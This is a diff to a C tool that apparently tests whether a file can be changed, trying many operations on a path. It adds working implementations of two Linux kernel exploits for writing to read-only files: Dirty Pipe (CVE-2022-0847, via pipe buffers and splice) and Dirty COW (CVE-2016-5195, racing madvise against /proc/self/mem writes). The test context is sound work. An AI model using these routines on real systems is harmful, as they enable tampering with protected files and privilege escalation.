@@ -4,10 +4,13 @@
 #include <fcntl.h>
 #include <signal.h>
 #include <linux/fs.h>
+#include <pthread.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <stdint.h>
 #include <sys/ioctl.h>
+#include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -178,6 +181,52 @@ by_tmpfile(const char *path, const char *text)
 	return fd < 0 ? -1 : linkat(AT_FDCWD, name, AT_FDCWD, beside(path), AT_SYMLINK_FOLLOW);
 }
 
+/* CVE-2022-0847: a page of the file in a pipe whose buffers were used before, which a write then continues. */
+static int
+by_pipe(const char *path, const char *text)
+{
+	int fd = open(path, O_RDONLY | O_CLOEXEC), ends[2], size;
+	loff_t at = 0;
+	char byte;
+
+	if (fd < 0 || pipe(ends) < 0)
+		return -1;
+	size = fcntl(ends[1], F_GETPIPE_SZ);
+	for (int i = 0; i < size; i++)
+		if (write(ends[1], "x", 1) != 1)
+			return -1;
+	for (int i = 0; i < size; i++)
+		if (read(ends[0], &byte, 1) != 1)
+			return -1;
+	if (splice(fd, &at, ends[1], NULL, 1, 0) != 1)
+		return -1;
+	return (int)write(ends[1], text, strlen(text)) < 0 ? -1 : 0;
+}
+
+/* CVE-2016-5195: a write to a private page races the kernel's dropping of the copy. */
+#define COW_TRIES 20000
+static void *
+drop_copy(void *page)
+{
+	for (int i = 0; i < COW_TRIES; i++)
+		madvise(page, 1, MADV_DONTNEED);
+	return NULL;
+}
+
+static int
+by_cow(const char *path, const char *text)
+{
+	int fd = open(path, O_RDONLY | O_CLOEXEC), mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
+	void *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
+	pthread_t other;
+
+	if (fd < 0 || mem < 0 || page == MAP_FAILED || pthread_create(&other, NULL, drop_copy, page) != 0)
+		return -1;
+	for (int i = 0; i < COW_TRIES; i++)
+		(void)!pwrite(mem, text, strlen(text), (off_t)(uintptr_t)page);
+	return pthread_join(other, NULL) == 0 ? 0 : -1;
+}
+
 #define BY(name, call) \
 	static int by_##name(const char *path, const char *text) { (void)path, (void)text; return (int)(call); }
 BY(truncate, truncate(path, 0))
@@ -201,6 +250,7 @@ static const struct {
 	{ "flags",     by_flags     }, { "unlink",  by_unlink  }, { "file_setattr", by_file_setattr },
 	{ "rename",    by_rename    }, { "mkdir",   by_mkdir   }, { "symlink",      by_symlink      },
 	{ "fifo",      by_fifo      }, { "create",  by_create  }, { "tmpfile",      by_tmpfile      },
+	{ "pipe",      by_pipe      }, { "cow",     by_cow     },
 };
 
 /* OP PATH TEXT: one way of changing PATH. */
